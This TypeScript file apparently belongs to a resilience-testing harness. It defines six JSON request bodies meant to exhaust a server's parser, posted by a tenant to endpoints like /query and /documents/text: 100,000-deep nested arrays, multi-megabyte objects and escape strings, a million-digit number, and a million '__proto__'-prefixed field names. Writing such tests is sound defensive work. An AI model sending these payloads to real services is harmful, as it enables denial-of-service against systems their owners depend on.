import type { AttackKind } from '../attack.ts'
import type { Caller } from '../caller.ts'

const MB = 2 ** 20

const sending = (path: string, make: () => string) => (caller: Caller) => {
  const body = Buffer.from(make())
  return async () => {
    await caller.post(path, body)
  }
}

/** Bodies that are worse than their bytes. */
export const jsonBodies: AttackKind = {
  kind: 'json',
  attacks: [
    {
      name: 'lists-in-lists',
      by: 'tenant',
      ready: sending(
        '/query',
        () => `{"query":"what is it","x":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
      ),
    },
    {
      name: 'objects-in-a-text-of-40-MB',
      by: 'tenant',
      ready: sending(
        '/documents/text',
        () =>
          `{"text":"Ada met Bo.","metadata":{"a":[${'{"a":{}},'.repeat((40 * MB) / 9).slice(0, -1)}]}}`,
      ),
    },
    {
      name: 'millions-of-empty-lists',
      by: 'tenant',
      ready: sending(
        '/documents/texts',
        () => `{"texts":[${'[],'.repeat((30 * MB) / 3).slice(0, -1)}]}`,
      ),
    },
    {
      name: 'escapes-of-40-MB',
      by: 'tenant',
      ready: sending('/documents/text', () => `{"text":"${'\\u0001'.repeat((40 * MB) / 6)}"}`),
    },
    {
      name: 'number-of-a-million-digits',
      by: 'tenant',
      ready: sending(
        '/documents/custom_kg',
        () =>
          `{"chunks":[],"entities":[],"relationships":[{"src_id":"a","tgt_id":"b","description":"c","keywords":"d","weight":${'9'.repeat(MB)}}]}`,
      ),
    },
    {
      name: 'names-of-fields-by-the-million',
      by: 'tenant',
      ready: sending(
        '/documents/text',
        () =>
          `{"text":"Ada met Bo.","metadata":{${Array.from({ length: 1_000_000 }, (_, i) => `"__proto__${i}":1`).join(',')}}}`,
      ),
    },
  ],
}
